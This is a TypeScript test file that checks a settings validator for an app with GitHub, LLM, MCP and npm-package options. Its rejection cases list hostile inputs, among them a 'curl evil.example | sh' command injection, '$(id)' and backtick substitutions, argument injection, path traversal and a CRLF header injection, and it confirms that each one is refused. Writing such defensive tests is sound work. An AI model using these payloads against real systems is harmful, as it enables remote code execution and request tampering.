import { describe, expect, test } from 'vitest'
import { makeKeyPair } from '../../../shared/keys/key-pair.ts'
import { Secrets, Settings } from '../../../shared/settings/settings.ts'
import { unknownSetting } from '../../../shared/settings/unknown-setting.ts'

const packageRule = 'must be the name of an npm package, such as @example/carrel or @example/carrel@2.0.0'
const one = makeKeyPair()
const two = makeKeyPair()

const read = (name: keyof typeof Settings.shape | keyof typeof Secrets.shape, value: unknown) => {
  const result = { ...Settings.shape, ...Secrets.shape }[name].safeParse(value)
  return result.success ? { is: result.data } : { refused: result.error.issues[0]?.message }
}

describe('a setting', () => {
  test.each([
    ['permissions.anonymousParse', 'true', true],
    ['permissions.anonymousParse', 'false', false],
    ['permissions.requireMcpAuth', true, true],
    ['github.baseUrl', 'https://ghe.example.com/', 'https://ghe.example.com'],
    ['llm.provider', 'bedrock', 'bedrock'],
    ['llm.model', ' gpt-x ', 'gpt-x'],
    ['embedding.provider', 'local', 'local'],
    ['embedding.dimensions', '1536', 1536],
    ['embedding.dimensions', 1536, 1536],
    ['aws.region', 'us-gov-west-1', 'us-gov-west-1'],
    ['mcp.allowedOrigins', 'https://a.example, http://localhost:6274', ['https://a.example', 'http://localhost:6274']],
    ['mcp.allowedOrigins', ['https://a.example'], ['https://a.example']],
    ['mcp.allowedOrigins', '', []],
    ['setup.package', '@acme/carrel@2.0.0-rc.1', '@acme/carrel@2.0.0-rc.1'],
    ['setup.package', 'acme-docs', 'acme-docs'],
    ['bundle.trustedKeys', one.publicPem + two.publicPem, [one.publicPem.trim(), two.publicPem.trim()]],
    ['bundle.trustedKeys', [one.publicPem], [one.publicPem.trim()]],
    ['github.token', ' ghp_0123456789\n', 'ghp_0123456789'],
  ] as const)('accepts the value "$1" for $0', (name, value, is) => {
    expect(read(name, value)).toEqual({ is })
  })

  test.each([
    ['permissions.anonymousParse', 'yes', 'must be true or false'],
    ['permissions.anonymousParse', 1, 'must be true or false'],
    [
      'github.baseUrl',
      'http://ghe.example.com',
      'must start with https:// (http:// is allowed only for 127.0.0.1 and localhost)',
    ],
    ['github.baseUrl', 7, 'must be a text'],
    ['llm.provider', 'mistral', 'must be one of bedrock, openai, anthropic, gemini, custom'],
    ['embedding.provider', 'anthropic', 'must be one of auto, none, bedrock, openai, gemini, custom, local'],
    ['llm.model', '', 'must not be empty'],
    ['llm.model', 'a\nb', 'must be one line without control characters'],
    ['embedding.dimensions', '0', 'must be a whole number from 1 to 16384'],
    ['embedding.dimensions', 1.5, 'must be a whole number from 1 to 16384'],
    ['embedding.dimensions', '1e3', 'must be a whole number from 1 to 16384'],
    ['aws.region', 'eu-central-1.evil.example', 'must be a region such as eu-central-1'],
    ['mcp.allowedOrigins', '*', 'must be origins such as https://app.example.com, separated by commas'],
    ['mcp.allowedOrigins', 'https://a.example/path', 'must be origins such as https://app.example.com, separated by commas'],
    ['mcp.allowedOrigins', [7], 'must be origins such as https://app.example.com, separated by commas'],
    ['setup.package', 'acme docs', packageRule],
    ['setup.package', 'acme; curl evil.example | sh', packageRule],
    ['setup.package', '$(id)', packageRule],
    ['setup.package', '--package=evil', packageRule],
    ['setup.package', 'Acme', packageRule],
    ['setup.package', '@acme', packageRule],
    ['setup.package', '@acme/', packageRule],
    ['setup.package', 'acme@', packageRule],
    ['setup.package', 'acme@^1 || 2', packageRule],
    ['setup.package', 'https://evil.example/x.tgz', packageRule],
    ['setup.package', '../carrel', packageRule],
    ['setup.package', 'a`id`', packageRule],
    ['setup.package', 'acme\nevil', packageRule],
    ['setup.package', '', packageRule],
    ['bundle.trustedKeys', 'hello', 'must be Ed25519 public keys in PEM, not private keys'],
    ['bundle.trustedKeys', one.privatePem, 'must be Ed25519 public keys in PEM, not private keys'],
    ['github.token', '', 'must not be empty'],
    ['github.token', 'two words', 'must be one word of plain ASCII characters'],
    ['github.token', 'a\r\nHost: evil', 'must be one line without control characters'],
    ['notifications.smtpPassword', '\n', 'must not be empty'],
    ['notifications.smtpPassword', 'one\ntwo', 'must be one line without control characters'],
    ['github.token', { set: true, last4: '1234' }, 'must be a text'],
  ] as const)('rejects the value "$1" for $0', (name, value, refused) => {
    expect(read(name, value)).toEqual({ refused })
  })
})

test.each([
  ['github.tokn', 'There is no setting "github.tokn"; did you mean github.token?'],
  ['GITHUB.BASEURL', 'There is no setting "GITHUB.BASEURL"; did you mean github.baseUrl, gitlab.baseUrl?'],
  ['requireMcpAuth', 'There is no setting "requireMcpAuth"; did you mean permissions.requireMcpAuth?'],
  ['apiKey', 'There is no setting "apiKey"; did you mean llm.apiKey, embedding.apiKey?'],
  ['nope', 'There is no setting "nope".'],
  ['__proto__', 'There is no setting "__proto__".'],
  ['x'.repeat(100_000), `There is no setting "${'x'.repeat(60)}".`],
])('an unknown setting ($0) is rejected with the similar names, if any', (name, message) => {
  expect(unknownSetting(name)).toMatchObject({ code: 'validation_error', message })
})
